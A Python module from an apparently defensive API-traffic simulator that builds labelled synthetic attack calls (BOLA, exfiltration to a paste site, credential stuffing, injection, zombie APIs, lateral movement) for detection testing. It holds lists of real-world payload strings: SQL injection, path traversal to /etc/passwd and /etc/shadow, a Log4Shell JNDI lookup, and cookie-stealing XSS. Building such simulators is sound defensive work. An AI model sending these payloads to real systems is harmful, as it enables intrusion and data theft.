"""Labelled attackers: one generator per attack kind, and ``plan_attacks`` to schedule them.

``AttackPlan`` says what one attacker does (kind, id, start, length, rate);
``attack_calls`` runs it against a run's ``World``: ``Attack`` hands each
generator its plan, its own ``random.Random`` (seeded from the run's seed and
the attack id), its absolute time window and its own principal. Every call an
attacker makes carries its ground truth (``scenario`` = kind, ``attack_id``);
calls that are part of the attack are ``malicious`` (an injector's ordinary
calls are not). Adding a kind is one generator here, a rate in
``ATTACK_RATES`` and an entry in ``ATTACK_KINDS``.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from operator import attrgetter

from ingest.errors import SettingsError
from ingest.simulator.call import SimCall, new_call
from ingest.simulator.catalog import BASE_ENDPOINTS, BY_KEY, ENDPOINTS, PASTE, Endpoint, Service, dependencies, qualified
from ingest.simulator.world import World

__all__ = ["ATTACK_KINDS", "ATTACK_RATES", "Attack", "AttackPlan", "attack_calls", "plan_attacks"]

ATTACK_KINDS: tuple[str, ...] = (
    "bola",
    "exfiltration",
    "credential_stuffing",
    "injection",
    "retired_api",
    "lateral_movement",
)

# calls/s of one attacker instance, drawn uniformly in these bounds by ``plan_attacks``
ATTACK_RATES: dict[str, tuple[float, float]] = {
    "bola": (15.0, 25.0),
    "exfiltration": (10.0, 20.0),
    "credential_stuffing": (20.0, 40.0),
    "injection": (3.0, 5.0),
    "retired_api": (2.0, 5.0),
    "lateral_movement": (2.0, 5.0),
}

_SQLI = ("1%27%20OR%20%271%27%3D%271", "1 UNION SELECT username,password FROM users--",
         "%27%3B%20DROP%20TABLE%20orders%3B--", "1%20AND%20SLEEP%285%29", "1' AND 1=CONVERT(int,@@version)--")
_TRAVERSAL = ("../../../../etc/passwd", "..%2F..%2F..%2F..%2Fetc%2Fshadow", "....//....//....//etc/hosts",
              "%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron")
_OTHER_PAYLOADS = ("%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%2Fa%7D", "<script>alert(document.cookie)</script>",
                   "%7B%7B7*7%7D%7D")
_LATERAL_FROM = ("ml/recommender", "shop/carts", "shop/notifications", "ml/fraud-scorer")
_LATERAL_ALWAYS = ("identity/secrets-broker", "payments/ledger-admin")
# the easy attackers keep to the catalog they were written against, so routes added for later scenarios
# leave their streams (and the golden-stream test) unchanged
_BASE = ENDPOINTS[:BASE_ENDPOINTS]


def _base_services() -> dict[str, Service]:
    grouped: dict[str, list[Endpoint]] = {}
    for e in _BASE:
        grouped.setdefault(qualified(e), []).append(e)
    return {q: Service(es[0].namespace, es[0].service, tuple(es)) for q, es in grouped.items() if es[0].namespace}


@dataclass(frozen=True)
class AttackPlan:
    """One attacker instance: its kind, id, start (s after the run start), length and call rate."""

    kind: str
    attack_id: str
    start: float
    duration_s: float
    rate_eps: float

    def __post_init__(self) -> None:
        if self.kind not in ATTACK_KINDS:
            raise SettingsError(f"AttackPlan.kind={self.kind!r} is not one of {ATTACK_KINDS}")
        if self.rate_eps <= 0 or self.duration_s <= 0:
            raise SettingsError(f"AttackPlan {self.attack_id!r}: rate_eps and duration_s must be > 0")


@dataclass(frozen=True, slots=True)
class Attack:
    """What an attack generator needs: its plan, the world, its own rng and absolute time bounds."""

    plan: AttackPlan
    world: World
    rng: random.Random
    start: float
    end: float
    principal: str
    index: int
    ordinal: int
    seed: int

    def ticks(self) -> Iterator[float]:
        """Poisson arrival times of the attacker's calls inside its window."""
        rate, t = self.plan.rate_eps, self.start
        while True:
            t += self.rng.expovariate(rate)
            if t >= self.end:
                return
            yield t

    def call(self, t: float, workload: str | None, ip: str, principal: str | None, auth: str, ep: Endpoint,
             raw: str, ids: list[str], status: int, resp: int, sens: dict[str, int], malicious: bool = True,
             req: int | None = None) -> SimCall:
        """One labelled attacker call."""
        ms = ep.latency_ms * (0.5 + self.rng.expovariate(1.5))
        return new_call(t, workload, ip, workload is None, principal, auth, ep, raw, ids, status,
                        ep.request_bytes + 300 if req is None else req, resp, sens, ms, self.plan.kind,
                        self.plan.attack_id, malicious)

    def gateway(self, t: float, ep: Endpoint, raw: str, ids: list[str], status: int, resp: int,
                sens: dict[str, int], malicious: bool = True) -> SimCall:
        """A call by the attacker's own user principal through ``shop/frontend``."""
        ips = self.world.ips["shop/frontend"]
        return self.call(t, "shop/frontend", ips[self.index % len(ips)], self.principal, "jwt", ep, raw, ids,
                         status, resp, sens, malicious)


def _bola(a: Attack) -> list[SimCall]:
    """Walk ids upward from a real order/invoice: 404 for gaps, mostly 403, ~30% leaked with PII."""
    w, rng = a.world, a.rng
    cursor = {"order": int(w.random_id("order")), "invoice": int(w.random_id("invoice"))}
    out = []
    for t in a.ticks():
        kind = "order" if rng.random() < 0.8 else "invoice"
        cursor[kind] += 1
        oid = str(cursor[kind])
        ep = BY_KEY["shop/orders GET /orders/{id}" if kind == "order" else "payments/invoices GET /invoices/{id}"]
        if oid not in w.exists:
            status, resp, sens = 404, 150, {}
        elif rng.random() < 0.3:
            status, resp, sens = 200, ep.response_bytes, {**dict(ep.sensitive), "email": 1}
        else:
            status, resp, sens = 403, 160, {}
        out.append(a.gateway(t, ep, ep.prefix + oid + ep.suffix, [oid], status, resp, sens))
    return out


def _exfiltration(a: Attack) -> list[SimCall]:
    """Stolen JWT replayed from ``ml/notebook``: bulk profile pages and exports, then uploads to a paste site."""
    w, rng = a.world, a.rng
    ip = w.ips["ml/notebook"][0]
    pages, export = BY_KEY["identity/profiles GET /profiles"], BY_KEY["identity/profiles GET /customers/{id}/export"]
    page = rng.randrange(0, 40)
    out = []
    for t in a.ticks():
        if rng.random() < 0.65:
            page += 1
            ids, raw = w.page("profile", page, pages.items), f"/profiles?page={page}&size={pages.items}"
            sens = {"email": len(ids), "phone": len(ids)}
            out.append(a.call(t, "ml/notebook", ip, a.principal, "jwt", pages, raw, ids, 200, 900 * len(ids), sens))
        else:
            oid, k = w.random_id("profile"), rng.randint(20, 50)
            sens = {"email": k, "phone": k, "address": 1}
            out.append(a.call(t, "ml/notebook", ip, a.principal, "jwt", export, export.prefix + oid + export.suffix,
                              [oid], 200, 1500 * k, sens))
    for _ in range(rng.randint(3, 5)):
        t = rng.uniform(a.start + 0.5 * (a.end - a.start), a.end)
        out.append(a.call(t, "ml/notebook", ip, a.principal, "none", PASTE, PASTE.template, [], 201, 300, {},
                          req=rng.randint(1_000_000, 5_000_000)))
    return out


def _credential_stuffing(a: Attack) -> list[SimCall]:
    """An internet client replaying leaked credentials on ``/login``: ~95% 401, a few hits and 429s."""
    ep, rng, ip = BY_KEY["identity/auth POST /login"], a.rng, f"203.0.113.{10 + a.index % 240}"
    out = []
    for t in a.ticks():
        r = rng.random()
        status, resp = (200, 700) if r < 0.035 else (429, 90) if r < 0.045 else (401, 120)
        out.append(a.call(t, None, ip, None, "none", ep, ep.template, [], status, resp, {}))
    return out


def _injection_payload(a: Attack, own: dict[str, str]) -> tuple[Endpoint, str, list[str]]:
    rng = a.rng
    form = int(rng.random() * 5)
    if form == 0:
        return BY_KEY["shop/catalog GET /search"], "/search?q=" + rng.choice(_SQLI + _OTHER_PAYLOADS), []
    if form == 1:
        return BY_KEY["shop/catalog GET /products"], "/products?category=" + rng.choice(_SQLI), []
    if form == 2:
        order = own["order"]
        return BY_KEY["shop/orders GET /orders/{id}"], f"/orders/{order}?id=" + rng.choice(_SQLI), [order]
    if form == 3:
        ep, doc = BY_KEY["data/documents GET /documents/{id}/download"], own["document"]
        return ep, f"/documents/{doc}/download?file=" + rng.choice(_TRAVERSAL), [doc]
    return BY_KEY["data/documents GET /documents/{id}"], "/documents/" + rng.choice(_TRAVERSAL), []


def _injection(a: Attack) -> list[SimCall]:
    """A user probing with SQLi, traversal and template payloads, mixed with ordinary calls (malicious=False)."""
    w, rng = a.world, a.rng
    own = {"order": w.new_id("order"), "document": w.new_id("document")}
    out = []
    for t in a.ticks():
        if rng.random() < 0.35:
            ep = BY_KEY[rng.choice(("shop/catalog GET /search", "shop/orders GET /orders/{id}"))]
            ids = [own["order"]] if ep.kind else []
            raw = f"/orders/{own['order']}" if ep.kind else "/search?q=boots"
            out.append(a.gateway(t, ep, raw, ids, 200, ep.response_bytes, dict(ep.sensitive), malicious=False))
            continue
        ep, raw, ids = _injection_payload(a, own)
        r = rng.random()  # mostly rejected by validation, some server errors (stack traces), some answered
        status, resp = (400, 200) if r < 0.55 else (500, rng.randint(2000, 6000)) if r < 0.7 else (200, 5000)
        out.append(a.gateway(t, ep, raw, ids, status, resp, dict(ep.sensitive) if status == 200 else {}))
    return out


def _retired_api(a: Attack) -> list[SimCall]:
    """A forgotten client or a scanner on retired routes that still answer (zombie APIs)."""
    w, rng = a.world, a.rng
    retired = [e for e in _BASE if e.retired]
    out = []
    for t in a.ticks():
        ep = retired[int(rng.random() * len(retired))]
        ids = [w.random_id(ep.kind)] if ep.kind else []
        raw = ep.prefix + ids[0] + ep.suffix if ids else ep.template
        denied = "admin" in ep.template and rng.random() < 0.7
        status = 403 if denied else 404 if rng.random() < 0.05 else 200
        ok = status == 200
        sens = dict(ep.sensitive) if ok else {}
        out.append(a.gateway(t, ep, raw, ids, status, ep.response_bytes if ok else 150, sens))
    return out


def _lateral_targets(a: Attack, workload: str) -> list[Service]:
    deps = set(dependencies()[workload]) | {workload}
    services = _base_services()
    others = sorted(q for q in services if q not in deps and q not in _LATERAL_ALWAYS)
    chosen = [q for q in _LATERAL_ALWAYS if q not in deps] + a.rng.sample(others, a.rng.randint(1, 4))
    return [services[q] for q in chosen]


def _any_ids(w: World, ep: Endpoint) -> list[str]:
    """Ids of other users' objects for a call to ``ep``: none, one, or a page of them."""
    if ep.kind is None:
        return []
    return w.page(ep.kind, w.rng.randrange(100), ep.items) if ep.items > 1 else [w.random_id(ep.kind)]


def _lateral_movement(a: Attack) -> list[SimCall]:
    """A real workload, compromised, probing services outside its dependency graph (mTLS, no principal)."""
    w, rng = a.world, a.rng
    first = random.Random(f"{a.seed}:lateral").randrange(len(_LATERAL_FROM))
    workload = _LATERAL_FROM[(first + a.ordinal) % len(_LATERAL_FROM)]  # distinct for up to 4 instances
    targets, ip = _lateral_targets(a, workload), w.ips[workload][0]
    out = []
    for t in a.ticks():
        endpoints = [e for e in targets[int(rng.random() * len(targets))].endpoints if not e.retired]
        ep = endpoints[int(rng.random() * len(endpoints))]
        ids = _any_ids(w, ep)
        raw = ep.prefix + ids[0] + ep.suffix if ids and "{" in ep.template else ep.template
        n, ok = max(1, len(ids)), rng.random() < 0.6
        sens = {k: v * n for k, v in ep.sensitive} if ok else {}
        out.append(a.call(t, workload, ip, None, "mtls", ep, raw, ids, ep.ok_status if ok else 403,
                          ep.response_bytes * n if ok else 160, sens))
    return out


_GENERATORS: dict[str, Callable[[Attack], list[SimCall]]] = {
    "bola": _bola,
    "exfiltration": _exfiltration,
    "credential_stuffing": _credential_stuffing,
    "injection": _injection,
    "retired_api": _retired_api,
    "lateral_movement": _lateral_movement,
}


def plan_attacks(seed: int, duration_s: float, warmup_s: float, per_kind: int = 1) -> list[AttackPlan]:
    """One attacker per kind (``per_kind`` each), started at random after ``warmup_s``, ending inside the run.

    Each attack starts in ``[warmup_s, duration_s - tail]`` with ``tail =
    max(10, min(30, duration_s / 4))`` and lasts ``min(30, duration_s - start)``
    seconds, at a rate drawn from the kind's range.
    """
    tail = max(10.0, min(30.0, 0.25 * duration_s))
    if duration_s - tail < warmup_s:
        raise SettingsError(f"duration_s={duration_s} leaves no room for attacks after warmup_s={warmup_s}")
    rng = random.Random(f"{seed}:plan")
    plans = []
    for kind in ATTACK_KINDS:
        for k in range(per_kind):
            start = rng.uniform(warmup_s, duration_s - tail)
            plans.append(AttackPlan(kind, f"{kind}-{k + 1}", start, min(30.0, duration_s - start),
                                    round(rng.uniform(*ATTACK_RATES[kind]), 2)))
    return plans


def attack_calls(plans: Sequence[AttackPlan], index: int, world: World, seed: int, t0: float, t1: float) -> list[SimCall]:
    """The calls of ``plans[index]`` in a run ``[t0, t1)``, in time order.

    Its principal is ``user-9xxxx`` (distinct per attacker, never a benign user's);
    ``ordinal`` (how many earlier plans share its kind) keeps two attackers of a
    kind apart where the kind picks a workload.
    """
    plan = plans[index]
    ordinal = sum(1 for p in plans[:index] if p.kind == plan.kind)
    base = random.Random(f"{seed}:attackers").randrange(10000)
    attack = Attack(plan, world, random.Random(f"{seed}:{plan.attack_id}"), t0 + plan.start,
                    min(t1, t0 + plan.start + plan.duration_s), f"user-9{(base + index) % 10000:04d}",
                    index, ordinal, seed)
    return sorted(_GENERATORS[plan.kind](attack), key=attrgetter("time"))
